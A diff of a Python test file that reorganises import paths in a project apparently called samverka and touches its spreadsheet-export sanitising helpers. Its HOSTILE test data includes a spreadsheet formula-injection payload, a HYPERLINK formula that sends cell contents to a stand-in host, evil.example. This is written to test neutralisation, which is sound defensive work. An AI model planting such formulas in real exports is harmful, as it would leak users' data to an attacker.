@@ -21,22 +21,22 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from samverka.adapters.exports.compensation_files import statement_table, write
-from samverka.adapters.exports.grant_allocation_csv import allocation_csv
-from samverka.adapters.exports.tables import write_table
-from samverka.adapters.files.spreadsheet_cells import (
+from samverka.admission.files.result_files import read_explanations, write_files
+from samverka.association.grants.domain.grant_allocation import Allocation, MunicipalAllocation
+from samverka.association.grants.files.grant_allocation_csv import allocation_csv
+from samverka.association.plan.files.budget_file import budget_template
+from samverka.compensation.domain.month_lines import LineKind
+from samverka.compensation.domain.organiser import Organiser
+from samverka.compensation.domain.period import Month
+from samverka.compensation.domain.statements import Statement, StatementRow
+from samverka.compensation.files.compensation_files import statement_table, write
+from samverka.platform.files.exports import write_table
+from samverka.platform.files.spreadsheet_cells import (
     FORMULA_TRIGGERS,
     csv_cell,
     neutralise,
     restore,
 )
-from samverka.adapters.importers.budget_file import budget_template
-from samverka.adapters.interchange.result_files import read_explanations, write_files
-from samverka.domain.association.grant_allocation import Allocation, MunicipalAllocation
-from samverka.domain.compensation.month_lines import LineKind
-from samverka.domain.compensation.organiser import Organiser
-from samverka.domain.compensation.period import Month
-from samverka.domain.compensation.statements import Statement, StatementRow
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
